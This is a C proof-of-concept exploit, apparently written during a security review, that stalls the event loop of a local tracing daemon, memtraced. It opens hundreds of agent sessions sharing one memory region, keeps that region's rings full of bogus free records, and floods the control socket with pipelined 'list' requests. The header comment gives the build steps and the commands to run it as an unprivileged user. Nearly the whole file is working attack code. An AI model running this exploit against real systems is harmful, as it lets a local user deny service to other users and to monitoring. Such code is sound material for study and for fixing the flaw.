/*
 * query_drain.c - a local user stalls memtraced's loop for seconds with
 * `list` (or anybody's /metrics scrape): every query drains each live
 * session for a full SESSION_SLICE_MS (8 ms) with no overall window
 * (session_drain_window() is never called), so N sessions whose region
 * always has a backlog cost N x 8 ms of loop time per request.
 *
 * The attacker opens S agent connections (all sharing ONE memfd region, so
 * memory is tiny), and a producer thread keeps R rings of that region full
 * of FREE records of unknown addresses (the heap stays empty). Then it sends
 * Q pipelined `list` requests on one control connection.
 *
 * Build: cc -O2 -pthread -I/work/wt/rev/proto -o /tmp/priv-rev/query_drain \
 *            /work/review/hostile/query_drain.c
 * Run (as the attacker):
 *   setpriv --reuid=65534 --regid=65534 --clear-groups \
 *       /tmp/priv-rev/query_drain RUNTIME_DIR [S=200] [R=64] [Q=4] [HOLD=20]
 * Q=0 sends no query and only holds the sessions for HOLD s: then root's
 * `memtracectl list` or any /metrics scrape stalls the loop the same way.
 * Watch: memtracectl --runtime-dir RUNTIME_DIR status | grep stall (as root)
 *   and time another user's `memtracectl status` meanwhile.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "proto.h"
#include "shm.h"

static char *map;
static uint32_t nrings;
static volatile int stop;

static int unix_connect(const char *dir, const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	snprintf(a.sun_path, sizeof(a.sun_path), "%s/%s", dir, name);
	if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
		perror(a.sun_path);
		exit(1);
	}
	return fd;
}

static void put_u32(uint8_t *p, uint32_t v)
{
	memcpy(p, &v, 4);
}
static void put_u64(uint8_t *p, uint64_t v)
{
	memcpy(p, &v, 8);
}

static int hello_with(const char *dir, int r)
{
	uint8_t f[8 + 48];
	memset(f, 0, sizeof f);
	put_u32(f, 48);
	f[4] = PROTO_HELLO;
	put_u32(f + 8, PROTO_VERSION);
	put_u32(f + 16, 32);
	put_u32(f + 20, (uint32_t)getpid());
	int fd = unix_connect(dir, "agent.sock");
	union {
		struct cmsghdr h;
		char space[CMSG_SPACE(sizeof(int))];
	} ctl;
	struct iovec iov = {f, sizeof f};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
	memset(&ctl, 0, sizeof ctl);
	msg.msg_control = ctl.space;
	msg.msg_controllen = sizeof ctl.space;
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &r, sizeof(int));
	if (sendmsg(fd, &msg, MSG_NOSIGNAL) != (ssize_t)sizeof f) {
		perror("hello");
		exit(1);
	}
	return fd;
}

static struct shm_ring *ring_at(uint32_t i)
{
	return (struct shm_ring *)(map + SHM_OFF_RING(i));
}

/* Keeps every ring full of FREE records of addresses never allocated. */
static void *producer(void *arg)
{
	(void)arg;
	uint64_t seq = 1;
	struct shm_header *hd = (struct shm_header *)map;
	while (!stop) {
		int wrote = 0;
		for (uint32_t i = 0; i < nrings; i++) {
			struct shm_ring *r = ring_at(i);
			uint64_t h = atomic_load(&r->head), t = atomic_load(&r->tail);
			while (h - t < SHM_RING_CAP) {
				r->ev[h % SHM_RING_CAP] =
				    (struct shm_ev){seq++ << PROTO_EV_KIND_BITS | PROTO_EV_FREE,
				                    0x7000000000ull + (h % 4096) * 64, 0, 0, 0};
				h++;
				wrote++;
			}
			atomic_store(&r->head, h);
		}
		atomic_store(&hd->seq, seq);
		if (!wrote)
			usleep(500);
	}
	return NULL;
}

static double now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: %s RUNTIME_DIR [S] [R] [Q] [HOLD]\n", argv[0]);
		return 2;
	}
	const char *dir = argv[1];
	int S = argc > 2 ? atoi(argv[2]) : 200;
	nrings = argc > 3 ? (uint32_t)atoi(argv[3]) : 64;
	int Q = argc > 4 ? atoi(argv[4]) : 4;
	int hold = argc > 5 ? atoi(argv[5]) : 20;

	int r = memfd_create("qd", MFD_CLOEXEC | MFD_ALLOW_SEALING);
	if (r < 0 || ftruncate(r, (off_t)SHM_SIZE) < 0 ||
	    fcntl(r, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW) < 0)
		return 1;
	map = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, r, 0);
	if (map == MAP_FAILED)
		return 1;
	struct shm_header *hd = (struct shm_header *)map;
	hd->magic = SHM_MAGIC;
	hd->version = PROTO_VERSION;
	for (uint32_t i = 0; i < nrings; i++)
		atomic_store(&ring_at(i)->pending, UINT64_MAX);
	atomic_store(&hd->nrings, nrings);
	pthread_t th;
	pthread_create(&th, NULL, producer, NULL);
	usleep(200000);
	for (int i = 0; i < S; i++)
		hello_with(dir, r); /* kept open: S live sessions, one region */
	usleep(500000);
	printf("%d sessions on one region of %u full rings\n", S, nrings);
	fflush(stdout);

	if (Q == 0) { /* just hold the sessions: someone else's scrape or list pays */
		sleep(hold);
		goto out;
	}
	int c = unix_connect(dir, "control.sock");
	char req[64 * 32] = "";
	for (int i = 0; i < Q; i++)
		strcat(req, "{\"cmd\":\"list\"}\n");
	double end = now_ms() + hold * 1000.0;
	while (now_ms() < end) {
		double t0 = now_ms();
		if (write(c, req, strlen(req)) < 0)
			break;
		int got = 0;
		char buf[1 << 16];
		while (got < Q) {
			ssize_t n = read(c, buf, sizeof buf);
			if (n <= 0)
				goto out;
			for (ssize_t k = 0; k < n; k++)
				got += buf[k] == '\n';
		}
		printf("%d x list answered in %.0f ms\n", Q, now_ms() - t0);
		fflush(stdout);
	}
out:
	stop = 1;
	pthread_join(th, NULL);
	return 0;
}
